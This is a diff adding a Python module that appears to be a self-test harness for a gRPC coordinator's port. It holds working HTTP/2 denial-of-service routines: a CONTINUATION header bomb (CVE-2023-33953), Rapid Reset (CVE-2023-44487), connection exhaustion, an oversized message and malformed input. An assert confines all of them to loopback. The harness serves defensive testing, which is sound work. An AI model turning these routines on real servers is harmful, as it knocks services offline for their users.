@@ -1,0 +1,124 @@
+"""What a stranger may do to a coordinator's port: bounded in time and number, towards loopback only."""
+import contextlib
+import select
+import socket
+import struct
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_HEADERS = 4
+CONNECT_S = 5.0
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(text):
+    return bytes([len(text)]) + text.encode()
+
+
+# Of a call of Attend, in HPACK without indexing (RFC 7541): POST, http, and four literals.
+REQUEST = (b"\x83\x86\x04" + literal("/muster.v1.Rendezvous/Attend") + b"\x01" + literal("a") +
+           b"\x0f\x10" + literal("application/grpc") + b"\x00" + literal("te") + literal("trailers"))
+
+
+class Stranger:
+    """A connection that ignores what is sent to it; `open` is false once the other side has closed it."""
+
+    def __init__(self, address, port, source=""):
+        assert address.startswith("127."), "only loopback is attacked"
+        self.socket = socket.create_connection((address, port), CONNECT_S, (source, 0) if source else None)
+        self.open = True
+
+    def send(self, data):
+        """Whether all of it was taken."""
+        try:
+            self.socket.sendall(data)
+        except (ConnectionError, socket.timeout):
+            self.open = False
+        return self.open
+
+    def is_closed(self):
+        """Whether the other side has closed it by now."""
+        ready = select.poll()  # select() takes no descriptor above 1,023
+        ready.register(self.socket, select.POLLIN)
+        while self.open and ready.poll(0):
+            try:
+                self.open = bool(self.socket.recv(65536))
+            except ConnectionError:
+                self.open = False
+        return not self.open
+
+    def close(self):
+        self.socket.close()
+
+
+def header_bomb(address, port, mebibytes=16):
+    """One string of HPACK over many CONTINUATION frames (CVE-2023-33953). Returns how many bytes were taken."""
+    with contextlib.closing(Stranger(address, port)) as stranger:
+        size = mebibytes << 20
+        length, rest = bytes([0x7f]), size - 127  # an integer with a prefix of 7 bits
+        while rest >= 128:
+            length, rest = length + bytes([rest % 128 + 128]), rest // 128
+        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\x00" + length + bytes([rest])))
+        piece, taken = frame(CONTINUATION, 0, 1, b"a" * 16384), 0
+        while taken < size and stranger.send(piece) and not stranger.is_closed():
+            taken += 16384
+        return taken
+
+
+def rapid_reset(address, port, seconds):
+    """Calls that are cancelled at once (CVE-2023-44487), on new connections if one is closed. Returns their number."""
+    until, resets = time.monotonic() + seconds, 0
+    while time.monotonic() < until:
+        with contextlib.closing(Stranger(address, port)) as stranger:
+            stranger.send(PREFACE + frame(SETTINGS, 0, 0))
+            stream = 1
+            while time.monotonic() < until and not stranger.is_closed():
+                many = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, REQUEST) +
+                                frame(RESET, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(100))
+                if not stranger.send(many):
+                    break
+                stream += 200
+                resets += 100
+    return resets
+
+
+def idle_calls(address, port, connections=1255, streams=3):
+    """Connections with calls on which nothing is said."""
+    calls = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, REQUEST) for i in range(streams))
+    return hold(address, port, connections, PREFACE + frame(SETTINGS, 0, 0) + calls)
+
+
+def hold(address, port, connections, first=b"", source=""):
+    """Connections that send this, or nothing, and stay open."""
+    held = []
+    for _ in range(connections):
+        stranger = Stranger(address, port, source)
+        if first:
+            stranger.send(first)
+        held.append(stranger)
+    return held
+
+
+def endless_message(address, port, mebibytes=64):
+    """A message of nearly 4 GiB, as it says, of which so much is sent. Returns how many bytes were taken."""
+    with contextlib.closing(Stranger(address, port)) as stranger:
+        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, REQUEST) +
+                      frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
+        piece, taken = frame(DATA, 0, 1, bytes(16384)), 0
+        while taken < mebibytes << 20 and stranger.send(piece) and not stranger.is_closed():
+            taken += 16384
+        return taken
+
+
+def noise(address, port):
+    """Other protocols, and bytes that are none."""
+    hello = bytes.fromhex("16030100f8010000f40303") + bytes(range(237))
+    for first in (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\xff" * 4096, hello, hello[:20], PREFACE[:10], b"\0",
+                  PREFACE + b"\x7f" * 512, PREFACE + frame(PING, 0, 0, bytes(8)) * 5000):
+        with contextlib.closing(Stranger(address, port)) as stranger:
+            stranger.send(first)
+            stranger.is_closed()
